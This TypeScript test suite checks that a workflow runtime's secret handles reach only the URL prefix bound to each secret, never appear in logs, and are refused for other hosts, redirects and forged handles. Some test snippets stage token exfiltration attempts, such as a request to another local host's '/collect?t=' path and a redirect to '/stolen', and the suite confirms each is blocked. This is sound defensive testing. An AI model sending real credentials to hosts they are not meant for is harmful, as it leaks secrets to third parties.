/**
 * Secret handles: task code places `secret('KEY')` in an http request; the sidecar puts the value
 * in only for the URL prefix bound to that secret, and refuses (nothing sent) anywhere else. The
 * handle itself never shows the value: not as text, not as JSON, not in logs.
 */
import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { createTestStack, logsOf, type TestStack } from '../helpers/runtime.js';

const VALUE = 'tok-7f3a9c-very-secret';

interface Seen {
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

interface Recorder {
  server: Server;
  base: string;
  seen: Seen[];
}

async function recorder(respond?: (req: IncomingMessage) => { status: number; headers?: Record<string, string> }): Promise<Recorder> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      const answer = respond?.(req) ?? { status: 200 };
      res.writeHead(answer.status, { 'content-type': 'application/json', ...answer.headers });
      res.end('{"ok":true}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, base: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

let s: TestStack;
let api: Recorder;
let other: Recorder;
before(async () => {
  s = await createTestStack({ env: { SYNC_STUDIO_EGRESS_ALLOW: '127.0.0.1' } });
  api = await recorder((req) =>
    req.url?.startsWith('/1/hop') ? { status: 302, headers: { location: `${other.base}/stolen` } } : { status: 200 },
  );
  other = await recorder();
});
after(async () => {
  api.server.closeAllConnections();
  other.server.closeAllConnections();
  api.server.close();
  other.server.close();
  await s.close();
});

async function run(code: string, secrets: { key: string; value: string | null; bound_url?: string | null }[] = []) {
  const { projectId, triggerId } = await s.project(code);
  for (const secret of secrets) await s.store.create('secret', projectId, secret);
  const res = await s.call('developer', 'POST', `/api/triggers/button/${triggerId}/run`, { wait: true });
  return { res, lines: await logsOf(s, res.body.job_id) };
}

const token = () => ({ key: 'TOKEN', value: VALUE, bound_url: `${api.base}/1/` });

describe('secret handles', () => {
  test('expand in the URL, headers, params and body of a request to the bound URL', async () => {
    api.seen.length = 0;
    const { res, lines } = await run(
      `async function handle_button() {
         const t = secret('TOKEN');
         await http.post(params_url() + '/1/cards?token=' + t, { auth: { token: t }, list: ['a', t] },
           { headers: { Authorization: 'OAuth oauth_token="' + t + '"' }, params: { key: t } });
         return t;
       }
       function params_url() { return ${JSON.stringify(api.base)}; }`,
      [token()],
    );
    assert.equal(res.body.state, 'done', JSON.stringify(res.body));
    const [seen] = api.seen;
    assert.ok(seen, 'the bound API got the request');
    const query = new URL(seen.url, api.base).searchParams;
    assert.equal(query.get('token'), VALUE);
    assert.equal(query.get('key'), VALUE);
    assert.equal(seen.headers.authorization, `OAuth oauth_token="${VALUE}"`);
    assert.deepEqual(JSON.parse(seen.body), { auth: { token: VALUE }, list: ['a', VALUE] });
    assert.match(res.body.result, /^~secret~TOKEN~[0-9a-f]+~$/, 'task code holds a handle, not the value');
    const logged = JSON.stringify(lines);
    assert.ok(!logged.includes(VALUE), 'no log line shows the value');
    assert.ok(lines.some((l) => l.type === 'data_out' && l.message.includes('~secret~TOKEN~')));
  });

  test('a handle sent to another host is refused with a clear error and nothing is sent', async () => {
    other.seen.length = 0;
    const { res, lines } = await run(
      `async function handle_button() {
         try { await http.get(${JSON.stringify(other.base)} + '/collect?t=' + secret('TOKEN')); }
         catch (e) { return [e.name, e.message]; }
       }`,
      [token()],
    );
    assert.equal(other.seen.length, 0, 'the other host got nothing');
    const [, message] = res.body.result;
    assert.match(message, new RegExp(`secret TOKEN may only be sent to ${api.base}/1/, not to ${other.base}/collect; nothing was sent`));
    assert.ok(!JSON.stringify(lines).includes(VALUE));
  });

  test('the bound URL is a prefix on a path boundary of the same origin', async () => {
    api.seen.length = 0;
    const { res } = await run(
      `async function handle_button() {
         const out = [];
         for (const path of ['/2/cards', '/1x', '/1']) {
           try { await http.get(${JSON.stringify(api.base)} + path, { headers: { 'X-Token': secret('TOKEN') } }); out.push('sent'); }
           catch (e) { out.push(e.message.includes('may only be sent to') ? 'refused' : e.message); }
         }
         return out;
       }`,
      [token()],
    );
    assert.deepEqual(res.body.result, ['refused', 'refused', 'refused']);
    assert.equal(api.seen.length, 0);
  });

  test('a redirect away from the bound URL is not followed', async () => {
    other.seen.length = 0;
    const { res } = await run(
      `async function handle_button() {
         try { await http.get(${JSON.stringify(api.base)} + '/1/hop', { headers: { 'X-Api-Key': secret('TOKEN') } }); return 'followed'; }
         catch (e) { return e.message; }
       }`,
      [token()],
    );
    assert.match(res.body.result, /redirected to .*\/stolen, outside .*; the redirect was not followed/);
    assert.equal(other.seen.length, 0);
  });

  test('a secret without a bound URL, an unknown key and a forged handle', async () => {
    api.seen.length = 0;
    const { res } = await run(
      `async function handle_button() {
         const out = [];
         try { await http.get(${JSON.stringify(api.base)} + '/1/x', { headers: { 'X-Key': secret('PLUGIN_ONLY') } }); } catch (e) { out.push(e.message); }
         try { secret('NOPE'); } catch (e) { out.push(e.message); }
         await http.get(${JSON.stringify(api.base)} + '/1/forged', { headers: { 'X-Key': '~secret~TOKEN~deadbeef~' } });
         out.push(String(secret('TOKEN')) === JSON.parse(JSON.stringify(secret('TOKEN'))));
         return out;
       }`,
      [token(), { key: 'PLUGIN_ONLY', value: 'p-value' }],
    );
    const [unbound, unknown, stable] = res.body.result;
    assert.match(unbound, /secret PLUGIN_ONLY has no bound URL, so its handle is never sent.*nothing was sent/);
    assert.match(unknown, /secret: "NOPE" is not a secret of this project; its secrets: (TOKEN, PLUGIN_ONLY|PLUGIN_ONLY, TOKEN)/);
    assert.equal(stable, true);
    assert.equal(api.seen.length, 1);
    assert.equal(api.seen[0]!.headers['x-key'], '~secret~TOKEN~deadbeef~', "a handle with another job's tag is sent as written");
  });

  test('the API keeps the bound URL and refuses one that is not an http(s) prefix', async () => {
    const { projectId } = await s.project('function handle_button() {}');
    const created = await s.call('administrator', 'POST', `/api/projects/${projectId}/secrets`, {
      key: 'API_KEY',
      bound_url: 'https://api.example.com/v1/',
    });
    assert.equal(created.status, 201);
    assert.equal(created.body.bound_url, 'https://api.example.com/v1/');
    const bad = await s.call('administrator', 'PATCH', `/api/secrets/${created.body.id}`, { bound_url: 'https://api.example.com/v1/?x=1' });
    assert.equal(bad.status, 400);
    assert.match(JSON.stringify(bad.body), /bound_url/);
    const ftp = await s.call('administrator', 'PATCH', `/api/secrets/${created.body.id}`, { bound_url: 'ftp://files.example.com/' });
    assert.equal(ftp.status, 400);
    assert.equal(ftp.body.error.field, 'bound_url');
    assert.match(ftp.body.error.message, /must be an http\(s\) URL prefix/);
  });
});
